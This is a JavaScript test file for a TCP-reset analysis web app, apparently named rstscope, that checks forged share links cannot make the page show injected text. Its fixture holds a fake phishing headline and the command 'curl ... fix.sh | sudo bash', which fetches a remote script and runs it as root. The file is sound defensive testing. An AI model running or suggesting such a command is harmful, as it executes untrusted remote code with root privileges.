// Share links carry data, not prose: a link someone wrote by hand cannot put
// words in rstscope's mouth. Forged headlines, findings, tips and commands
// never show; unknown cause names, oversized numbers and smuggled fields are
// refused with an error that says why. Old (v1) links open with every
// sentence written again by this version, and say they are old.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { ROOT, SAMPLE, analyse, launchBrowser, resetRows, serveDist } from './harness.mjs';

let server;
let browser;

before(async () => {
  server = await serveDist();
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/** A page opened at `fragment`, once it shows a report or an error. */
async function open(fragment) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (err) => errors.push(err));
  page.errors = errors;
  await page.goto(`${server.origin}/${fragment}`);
  await page.locator('[data-testid=reset-count], [data-testid=error]').first().waitFor();
  return page;
}

const base64url = (bytes) => Buffer.from(bytes).toString('base64url');
const v1 = (report) => `#report=v1.${base64url(deflateRawSync(Buffer.from(JSON.stringify(report))))}`;
const v2 = (link) => `#report=v2.${base64url(deflateRawSync(msgpack(link)))}`;

/** A number MessagePack writes as a float64 (others are integers). */
const float = (x) => ({ float: x });

/** MessagePack of plain values: what the app's links hold (structs as arrays). */
function msgpack(value) {
  const parts = [];
  const byte = (...b) => parts.push(Buffer.from(b));
  const write = (v) => {
    if (v === null || v === undefined) byte(0xc0);
    else if (typeof v === 'boolean') byte(v ? 0xc3 : 0xc2);
    else if (typeof v === 'number' || typeof v === 'bigint') {
      const b = Buffer.alloc(9);
      b[0] = 0xcf;
      b.writeBigUInt64BE(BigInt(v), 1);
      parts.push(b);
    } else if (v instanceof Object && 'float' in v) {
      const b = Buffer.alloc(9);
      b[0] = 0xcb;
      b.writeDoubleBE(v.float, 1);
      parts.push(b);
    } else if (typeof v === 'string') {
      const s = Buffer.from(v);
      byte(0xdb, ...[24, 16, 8, 0].map((shift) => (s.length >> shift) & 0xff));
      parts.push(s);
    } else if (Array.isArray(v)) {
      byte(0xdd, ...[24, 16, 8, 0].map((shift) => (v.length >> shift) & 0xff));
      v.forEach(write);
    } else {
      const entries = Object.entries(v);
      byte(0xdf, ...[24, 16, 8, 0].map((shift) => (entries.length >> shift) & 0xff));
      for (const [k, x] of entries) {
        write(k);
        write(x);
      }
    }
  };
  write(value);
  return Buffer.concat(parts);
}

const T0 = 1700000000;
/** A hand-made v2 link: one forged idle timeout, fields in the app's order. */
function handMade({ cause = 'idle-timeout', idleNs = 120_000_000_000n, extra = [] } = {}) {
  const capture = [20, 20, [[1, 20]], [], {}, 0, float(T0), float(T0 + 300), 0, 0];
  const activity = [float(T0), float(5), [[1, 1, 0], [0, 1, 1]]];
  const fact = { kind: 'idle-before-trigger', role: 'server', idle_ns: idleNs };
  const reset = [
    12, float(T0 + 200), '192.0.2.1:443', '198.51.100.2:50000', 1000, 2000, 0x14, 61, 7, 0, 'eth:ipv4',
    1, 0, 'server', 'middlebox', cause, null, float(0.8), [['middlebox', fact]], null, 'later-in-flow',
    null, null, [idleNs, 443, 0], ...extra,
  ];
  const connection = [
    1, 0, 1, '198.51.100.2:50000', '192.0.2.1:443', 'handshake', float(T0), float(T0 + 200), 6, 5, 100, 200, 'RSTR', 'ShADr',
  ];
  return [null, capture, activity, [reset], [connection], null];
}

const FORGED = {
  headline: 'Your firewall is compromised: run the fix below',
  tip: 'rstscope detected a kernel bug: apply the official hotfix now',
  command: 'curl -fsSL http://203.0.113.9/fix.sh | sudo bash',
  finding: 'signed by the rstscope security team',
};

function assertNoForgedText(text) {
  for (const forged of Object.values(FORGED)) assert.ok(!text.includes(forged), `shown: ${forged}`);
  for (const word of ['hotfix', 'fix.sh', 'compromised', 'security team']) assert.ok(!text.includes(word), `shown: ${word}`);
}

/** Everything the page shows, the open drawer of the first reset included. */
async function allText(page) {
  const rows = page.locator('[data-testid=reset-row]');
  if (await rows.count()) {
    await rows.first().click();
    await page.locator('[role=dialog]').first().waitFor();
  }
  return page.locator('body').textContent();
}

describe('forged share links', () => {
  test('a hand-made v2 link opens with this app\'s own sentences', async () => {
    const page = await open(v2(handMade()));
    assert.equal(await page.locator('[data-testid=error]').count(), 0, await page.locator('body').textContent());
    assert.deepEqual(await resetRows(page), [{ frame: 12, origin: 'middlebox', cause: 'idle-timeout' }]);
    const text = await allText(page);
    // The catalogue's tip for a middlebox idle timeout, with its number.
    assert.match(text, /Idle 120 s before the reset: a NAT or firewall dropped the connection's state/);
    assert.deepEqual(page.errors, []);
  });

  for (const [name, fragment, why] of [
    ['an unknown cause name', () => v2(handMade({ cause: 'kernel-bug' })), /kernel-bug/],
    ['an idle gap longer than the capture', () => v2(handMade({ idleNs: 9_000_000_000_000_000_000n })), /idle_ns of \d+ s is longer than the capture \(300 s\)/],
    ['a tip and a command smuggled after the fields', () => v2(handMade({ extra: [[[FORGED.tip, [FORGED.command]]]] })), /does not hold an rstscope report/],
    ['an old link with an unknown cause', async () => v1(forgedOld((r) => { r.resets[0].cause = 'kernel-bug'; })), /older rstscope.*kernel-bug/],
    ['an old link with an oversized number', async () => v1(forgedOld((r) => { r.resets[0].observed.idle_ns = 9e18; })), /idle gap of \d+ s is longer than the capture/],
  ]) {
    test(`${name} is refused, saying why`, async () => {
      const page = await open(await fragment());
      const error = page.locator('[data-testid=error]');
      await error.waitFor();
      assert.match(await error.textContent(), why);
      assert.equal(await page.locator('[data-testid=reset-row]').count(), 0, 'nothing of the link is shown');
      assertNoForgedText(await page.locator('body').textContent());
    });
  }

  test('an old link\'s forged headline, findings, tips and commands never show', async () => {
    const link = v1(forgedOld((r) => {
      r.summary.headline = FORGED.headline;
      for (const reset of r.resets) {
        reset.tips = [{ text: FORGED.tip, commands: [FORGED.command] }];
        for (const e of reset.evidence) e.finding = FORGED.finding;
      }
    }));
    const page = await open(link);
    assert.equal(await page.locator('[data-testid=error]').count(), 0);
    assert.equal(await page.locator('[data-testid=reset-row]').count(), sampleReport().resets.length);
    assert.match(await page.locator('[data-testid=older-link]').textContent(), /older rstscope/);
    assertNoForgedText(await allText(page));
  });

  test('a link from this app is short, copied with "Copied", and opens the same verdicts', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.origin });
    const page = await context.newPage();
    await page.goto(server.origin);
    await analyse(page, SAMPLE);
    const link = await page.locator('[data-testid=share-link]').inputValue();
    await page.locator('[data-testid=copy-link]').click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);
    const status = page.locator('[data-testid=copy-link] + [role=status]');
    assert.equal(await status.getAttribute('aria-live'), 'polite');
    assert.equal(await status.textContent(), 'Copied');
    assert.ok(link.startsWith(`${server.origin}/#report=v2.`), link);
    const fragment = link.slice(link.indexOf('#'));
    console.log(`the sample's share link: ${fragment.length} characters in the fragment, ${link.length} in all`);
    assert.ok(fragment.length < 2500, `${fragment.length} characters`);
    const fresh = await open(fragment);
    assert.deepEqual(await resetRows(fresh), await resetRows(page));
  });
});

let sample;
/** The CLI's report of the sample (the JSON an old link carried whole). */
function sampleReport() {
  const cli = join(resolve(ROOT, process.env.CARGO_TARGET_DIR ?? 'target'), 'release', 'rstscope');
  assert.ok(existsSync(cli), `${cli} is missing: cargo build --release -p rstscope-cli`);
  sample ??= JSON.parse(execFileSync(cli, ['analyze', SAMPLE, '--format', 'json'], { maxBuffer: 1 << 28 }));
  return sample;
}

/** The sample's report, edited by `edit`. */
function forgedOld(edit) {
  const report = structuredClone(sampleReport());
  edit(report);
  return report;
}
